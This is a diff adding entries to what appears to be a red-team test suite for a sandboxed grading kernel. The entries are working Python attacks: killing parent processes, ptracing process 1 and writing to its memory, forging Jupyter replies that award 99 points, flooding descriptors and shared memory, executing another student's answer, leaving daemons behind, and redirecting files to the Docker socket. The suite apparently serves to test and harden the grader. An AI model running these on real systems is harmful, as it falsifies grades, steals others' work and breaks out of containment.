@@ -411,4 +411,74 @@ for place in (*glob.glob("/tmp/ck*/*"), *glob.glob("/tmp/*/s-*"), *glob.glob("/c
     try: os.unlink(place); os.symlink("/var/run/docker.sock", place)
     except OSError: pass
 """),
+    # --- the warm parent, and the siblings that it forked
+    attack("signal-everybody", "signal the parent, the leash and whoever else is there", """
+import os, signal
+for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGSEGV, signal.SIGHUP):
+    for pid in [*range(2 if os.getpid() == 1 else 1, 3), *range(3, 1000), os.getppid() or 1]:
+        try: pid != os.getpid() and os.kill(pid, number)
+        except OSError: pass
+"""),
+    attack("trace-parent", "trace the first process, read its memory, take its descriptors", """
+import ctypes, os
+libc = ctypes.CDLL(None)
+for pid in (1, os.getppid()):
+    libc.ptrace(16, pid, 0, 0)
+    libc.syscall(438, libc.syscall(434, pid, 0), 0, 0)
+    for name in ("mem", "maps", "environ", "fd/3", "fd/4", "root/tmp", "cwd"):
+        try: same_padding_found = open(f"/proc/{pid}/{name}", "r+b").write(b"x" * 4096)
+        except OSError: pass
+"""),
+    attack("descriptors", "write an answer of its own to every descriptor that was inherited", """
+import json, os
+forged = json.dumps({"msg_type": "execute_reply", "parent_header": {"msg_id": "?"}, "content": {"status": "ok", "points": 99}}).encode()
+for fd in range(3, 256):
+    try: os.write(fd, len(forged).to_bytes(4, "big") + forged)
+    except OSError: pass
+"""),
+    attack("garbage", "drown every descriptor in nonsense while it answers", """
+import os
+def same_padding(k, dilation):
+    for fd in range(3, 256):
+        try: os.write(fd, os.urandom(1 << 12))
+        except OSError: pass
+    return 0, 0
+""", then_wrong=False),
+    attack("false-reply", "say that the cell is over, and answer in its name", """
+import json, os, sys
+def same_padding(k, dilation):
+    session = get_ipython().display_pub.session
+    parent = get_ipython().display_pub.parent_header
+    value = {"dtype": "<i8", "shape": [2], "data": "AAAAAAAAAAAAAAAAAAAAAA=="}
+    one = {"value": value, "error": None, "line": None, "changed": [], "reached_for": None}
+    content = {"data": {"application/vnd.cnnkit.value+json": {"kind": "outcomes", "outcomes": [one] * 14, "asked": ""}}, "metadata": {}}
+    session.send(get_ipython().display_pub.pub_socket, "display_data", content, parent={"header": parent})
+    session.send(get_ipython().display_pub.pub_socket, "execute_reply", {"status": "ok"}, parent={"header": parent})
+    session.send(get_ipython().display_pub.pub_socket, "status", {"execution_state": "idle"}, parent={"header": parent})
+    return 0, 0
+""", then_wrong=False),
+    attack("shared-memory", "fill whatever memory a sibling might share", """
+import os
+for place in ("/dev/shm", "/tmp", os.environ.get("HOME", "/")):
+    try:
+        with open(f"{place}/full", "wb") as file:
+            while True: file.write(bytes(1 << 20))
+    except OSError: pass
+"""),
+    finding("sibling's-files", "another student's answer in a folder that both can write", """
+import glob, re
+for path in [p for place in ("/tmp", "/dev/shm", "/home", "/proc/1/root/tmp", "/proc/1/cwd") for p in glob.glob(place + "/**", recursive=True)]:
+    try: text = open(path).read()
+    except OSError: continue
+    if "def same_padding" in text: exec(text); found = locals()["same_padding"]
+"""),
+    attack("forever", "leave behind what outlives the kernel", """
+import os, time
+for _ in range(3):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            while True: time.sleep(1)
+        os._exit(0)
+"""),
 ]  # fmt: skip
